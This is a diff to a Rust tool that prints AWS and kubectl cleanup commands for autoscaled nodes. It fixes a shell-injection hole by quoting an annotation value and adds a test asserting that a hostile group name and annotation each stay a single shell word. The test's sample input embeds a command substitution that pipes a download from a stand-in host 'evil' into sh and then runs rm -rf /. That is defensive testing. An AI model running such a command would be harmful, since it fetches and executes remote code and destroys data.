@@ -14,6 +14,7 @@ use crate::names::{
     RECORD_ANNOTATION, SCALE_DOWN_DISABLED_ANNOTATION, STANDBY_TAG,
 };
 use crate::node::{Group, Instance, NodeFacts};
+use crate::shell::quote;
 
 /// What is left of us on a node.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -230,7 +231,10 @@ fn look_at_node(node: &NodeFacts, found: &mut Found) {
     }
     if let Some(before) = let_go_of_old_node(node, &record) {
         let change = match before {
-            Some(before) => format!("--overwrite {SCALE_DOWN_DISABLED_ANNOTATION}={before}"),
+            Some(before) => {
+                let annotation = format!("{SCALE_DOWN_DISABLED_ANNOTATION}={before}");
+                format!("--overwrite {}", quote(&annotation))
+            }
             None => format!("{SCALE_DOWN_DISABLED_ANNOTATION}-"),
         };
         found.states.push("is kept from Cluster Autoscaler".to_owned());
@@ -278,17 +282,6 @@ fn look_at_tags(instance: &Instance, found: &mut Found) {
             tags.join(" ")
         ));
     }
-}
-
-/// For a shell: a group's name may hold spaces and quotes.
-fn quote(text: &str) -> String {
-    if text
-        .bytes()
-        .all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.' | b'/'))
-    {
-        return text.to_owned();
-    }
-    format!("'{}'", text.replace('\'', "'\\''"))
 }
 
 #[cfg(test)]
@@ -611,10 +604,62 @@ mod tests {
         );
     }
 
+    /// A kubelet writes any annotation on its own Node, and whoever makes a group chooses its name.
     #[test]
-    fn a_groups_name_is_quoted_for_the_shell() {
-        assert_eq!(quote("eks-workers_1.a/b"), "eks-workers_1.a/b");
-        assert_eq!(quote("it's mine"), "'it'\\''s mine'");
+    fn what_others_wrote_stays_one_word_of_a_command() {
+        let attack = "x$(curl -s evil|sh)'; rm -rf / #";
+        let kept = Record {
+            kept: true,
+            kept_before: Some(attack.to_owned()),
+            ..ours()
+        };
+        let mut node = draining(&kept);
+        node.annotations
+            .insert(SCALE_DOWN_DISABLED_ANNOTATION.to_owned(), "true".to_owned());
+        let named = Group {
+            name: attack.parse().unwrap(),
+            ..group()
+        };
+        let left = describe_left_behind(
+            &id(crate::fixtures::OLD),
+            Some(&named),
+            Some("Standby"),
+            Some(&tagged()),
+            Some(&node.name),
+            Some(&node),
+            false,
+        );
+        let words: Vec<Vec<String>> = left
+            .commands
+            .iter()
+            .map(|command| shlex::split(command).unwrap())
+            .collect();
+        let annotation = format!("{SCALE_DOWN_DISABLED_ANNOTATION}={attack}");
+        for expected in [
+            vec![
+                "aws",
+                "autoscaling",
+                "exit-standby",
+                "--auto-scaling-group-name",
+                attack,
+                "--instance-ids",
+                crate::fixtures::OLD,
+            ],
+            vec![
+                "kubectl",
+                "annotate",
+                "node",
+                "old",
+                "--overwrite",
+                annotation.as_str(),
+            ],
+        ] {
+            assert!(
+                words.iter().any(|words| *words == expected),
+                "{:?}",
+                left.commands
+            );
+        }
     }
 
     #[test]
